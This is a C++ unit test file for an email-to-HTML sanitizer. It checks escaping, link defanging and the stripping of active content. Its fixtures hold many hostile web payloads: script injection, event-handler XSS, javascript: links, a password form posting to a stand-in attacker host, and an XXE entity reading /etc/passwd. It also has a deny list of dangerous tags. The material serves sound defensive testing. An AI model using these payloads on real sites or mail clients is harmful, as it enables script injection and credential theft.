#include <catch2/catch.hpp>

#include <regex>
#include <set>
#include <string>

#include "auth/html.hpp"

namespace {

// Every tag of `html` with its attributes; fails the test on a tag or attribute the inert page
// must not have (the page's own markup uses class, title, colspan/rowspan and href="#...").
void require_inert(const std::string& html) {
    static const std::set<std::string> tags = {
        "p", "div", "span", "br", "hr", "b", "strong", "i", "em", "u", "s", "small", "sub", "sup", "code", "pre",
        "blockquote", "ul", "ol", "li", "dl", "dt", "dd", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead",
        "tbody", "tfoot", "tr", "td", "th", "caption", "abbr", "cite", "q", "address", "tt", "strike", "del", "ins",
        "mark", "a"};
    std::regex tag(R"(<(/?)([a-zA-Z0-9]+)([^>]*)>)");
    std::regex attr(R"(([a-zA-Z-]+)=\"([^\"]*)\")");
    for (auto it = std::sregex_iterator(html.begin(), html.end(), tag); it != std::sregex_iterator(); ++it) {
        std::string name = (*it)[2];
        INFO("tag <" << (*it)[0] << "> in " << html);
        CHECK(tags.count(name) == 1);
        std::string attrs = (*it)[3];
        std::string rest = std::regex_replace(attrs, attr, "");
        CHECK(rest.find_first_not_of(" ") == std::string::npos);
        for (auto a = std::sregex_iterator(attrs.begin(), attrs.end(), attr); a != std::sregex_iterator(); ++a) {
            std::string k = (*a)[1], v = (*a)[2];
            INFO("attribute " << k << "=" << v);
            CHECK((k == "class" || k == "title" || k == "colspan" || k == "rowspan" || k == "href"));
            if (k == "href") CHECK(v.rfind("#", 0) == 0);
        }
    }
    for (const char* bad : {"<script", "<style", "<iframe", "<img", "<object", "<embed", "<svg", "<link", "<meta",
                            "<form", "<input", "<base", "<!--", "style=", "onerror", "onload", "onclick", "onmouseover",
                            "url(", "@import", "expression(", "javascript:", "vbscript:", "data:text"}) {
        INFO("found " << bad << " in " << html);
        CHECK(html.find(bad) == std::string::npos);
    }
}

}  // namespace

TEST_CASE("html_escape escapes markup, replaces invalid UTF-8 and drops control characters", "[html]") {
    CHECK(auth::html_escape("<a href=\"x\">'&'</a>") == "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
    CHECK(auth::html_escape("caf\xc3\xa9") == "caf\xc3\xa9");
    CHECK(auth::html_escape("bad \xc3( \xed\xa0\x80 \xf8") == "bad \xEF\xBF\xBD( \xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD \xEF\xBF\xBD");
    CHECK(auth::html_escape(std::string("a\0b\x1b[31m\r\n", 10)) == "a\xEF\xBF\xBD" "b\xEF\xBF\xBD[31m\n");
}

TEST_CASE("defang_target makes link targets safe to show and paste", "[html]") {
    CHECK(auth::defang_target("https://evil.example/login") == "hxxps://evil[.]example/login");
    CHECK(auth::defang_target(" javascript:alert(document.cookie) ") == "javascript[:]alert(document[.]cookie)");
    CHECK(auth::defang_target("data:text/html;base64,PHNjcmlwdD4=") == "data[:]text/html;base64,PHNjcmlwdD4=");
    CHECK(auth::defang_target("https://x.example/" + std::string(1000, 'a')).size() <= 300 + 3);
}

TEST_CASE("sanitize_html drops active content and keeps what the reader saw", "[html]") {
    const std::string hostile =
        "<html><head><title>t</title><style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/b.png)}</style>"
        "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"
        "<link rel=\"stylesheet\" href=\"https://evil.example/s.css\"></head>"
        "<body onload=\"steal()\"><script>alert('x')</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>"
        "<p style=\"background:url(https://evil.example/t.png); width:expression(alert(1))\" class=\"x\" id=\"s1-f1\">Dear customer,</p>"
        "<img src=\"https://tracker.example/pixel.gif\" alt=\"logo\" onerror=\"alert(1)\">"
        "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">"
        "<a href=\"javascript:alert(1)\" onmouseover=\"alert(2)\">Verify now</a> "
        "<a href=\"https://login.evil.example/verify\">https://contoso.example</a>"
        "<a href=\"data:text/html,<script>alert(1)</script>\">open</a>"
        "<iframe src=\"https://evil.example/frame\"></iframe><object data=\"x.swf\"></object><embed src=\"x\">"
        "<svg onload=\"alert(1)\"><script>alert(3)</script></svg><math><mi>x</mi></math>"
        "<form action=\"https://evil.example/post\"><input type=\"password\" placeholder=\"Password\"><button>Sign in</button></form>"
        "<!-- a comment <!-- nested --> still comment? --> after"
        "<div><b>unclosed <i>nesting</b> broken</i><table><tr><td colspan=\"2\" onclick=\"x\">cell</td><td colspan=\"2x\">c2</td></table>"
        "<p>&lt;script&gt;escaped text&lt;/script&gt; &amp; more</p><noscript><p>no script</p></noscript>"
        "<x-custom onclick=\"x\">custom</x-custom><template><script>alert(4)</script></template>"
        "<a href=\"vbscript:msgbox(1)\">vb</a><p>unterminated <b attr=\"x";
    std::string out = auth::sanitize_html(hostile);
    require_inert(out);
    CHECK(out.find("Dear customer,") != std::string::npos);
    CHECK(out.find("Verify now") != std::string::npos);
    CHECK(out.find("hxxps://login[.]evil[.]example/verify") != std::string::npos);
    CHECK(out.find("javascript[:]alert(1)") != std::string::npos);
    CHECK(out.find("[image &quot;logo&quot; from hxxps://tracker[.]example/pixel.gif, not loaded]") != std::string::npos);
    CHECK(out.find("[password field &quot;Password&quot;]") != std::string::npos);
    CHECK(out.find("[form sending to hxxps://evil[.]example/post]") != std::string::npos);
    CHECK(out.find("&lt;script&gt;escaped text&lt;/script&gt; &amp; more") != std::string::npos);
    CHECK(out.find("<td colspan=\"2\">cell</td>") != std::string::npos);
    CHECK(out.find("<td>c2</td>") != std::string::npos);
    CHECK(out.find("alert('x')") == std::string::npos);
    CHECK(out.find("alert(3)") == std::string::npos);
    CHECK(out.find("alert(4)") == std::string::npos);
    CHECK(out.find("s1-f1") == std::string::npos);  // a message's id could clash with the page's anchors
    CHECK(out.find("custom") != std::string::npos);
    CHECK(out.find("no script") != std::string::npos);
}

TEST_CASE("sanitize_html survives hostile structure", "[html]") {
    std::string deep;
    for (int i = 0; i < 5000; ++i) deep += "<div><span>";
    deep += "bottom";
    std::string out = auth::sanitize_html(deep);
    require_inert(out);
    CHECK(out.find("bottom") != std::string::npos);
    CHECK(auth::sanitize_html("").empty());
    {
        static const char nul[] = "\0<scr\0ipt>alert(1)</script>\xff\xfe<";
        require_inert(auth::sanitize_html(std::string(nul, sizeof nul - 1)));
    }
    require_inert(auth::sanitize_html("<<<>>><p <p <a href='javascript:x'>x</a>"));
    require_inert(auth::sanitize_html("<![CDATA[<script>alert(1)</script>]]><?php evil(); ?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"));
}

TEST_CASE("sanitize_html hooks render text and link targets", "[html]") {
    auth::SanitizeHooks h;
    h.text = [](std::string_view t) { return "[" + auth::html_escape(t) + "]"; };
    h.link = [](std::string_view href) { return "{" + auth::html_escape(href) + "}"; };
    std::string out = auth::sanitize_html("<p>a<a href=\"https://x.example/\">b</a></p>", h);
    CHECK(out == "<p>[a]<span class=\"lnk\">[b]</span> {https://x.example/}</p>");
}

TEST_CASE("the page carries the content security policy and no reference out of it", "[html]") {
    std::string page = auth::html_page_begin("t <script>") + auth::html_error_section("a<b>.eml", "bad \"input\"") + auth::html_page_end();
    CHECK(page.find("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\">") !=
          std::string::npos);
    CHECK(page.find("<title>t &lt;script&gt;</title>") != std::string::npos);
    CHECK(page.find("a&lt;b&gt;.eml") != std::string::npos);
    for (const char* bad : {"http://", "https://", "url(", "@import", "<script", "src="}) {
        INFO(bad);
        CHECK(page.find(bad) == std::string::npos);
    }
}
